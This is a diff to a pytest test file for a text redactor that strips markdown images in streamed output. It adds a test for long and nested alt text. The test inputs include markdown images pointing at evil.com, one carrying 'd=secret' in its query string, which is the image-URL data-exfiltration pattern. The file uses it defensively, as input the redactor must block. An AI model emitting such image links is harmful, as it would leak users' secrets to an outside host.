@@ -2,6 +2,7 @@ import random
 import time
 
 import pytest
+from hostile_texts import PROSE
 
 from backstay.errors import UsageError
 from backstay.guard import Redaction, TextStream, redact
@@ -92,6 +93,13 @@ def test_no_character_of_a_foreign_image_is_released() -> None:
     stream = TextStream(LATCH)
     assert stream.feed("see ![a](https://evil.co") == "see ![a" and stream.feed("m/?d=secret") == ""
     assert stream.feed(") end ") == "# end "
+
+
+def test_what_begins_before_all_that_is_looked_at_counts_as_an_image() -> None:
+    assert redact("![" + "a" * 1500 + "](https://evil.com/x) b", LATCH)[0].endswith("a# b")
+    assert redact("![" + "a[b]" * 300 + "](https://evil.com/x) b", LATCH)[0].endswith("]# b")
+    text = PROSE * 3 + "[a](https://evil.com/x) and [b [c]](https://evil.com/x)"
+    assert redact(text, LATCH)[0] == text
 
 
 def test_an_image_that_is_never_closed_ends_the_text() -> None:
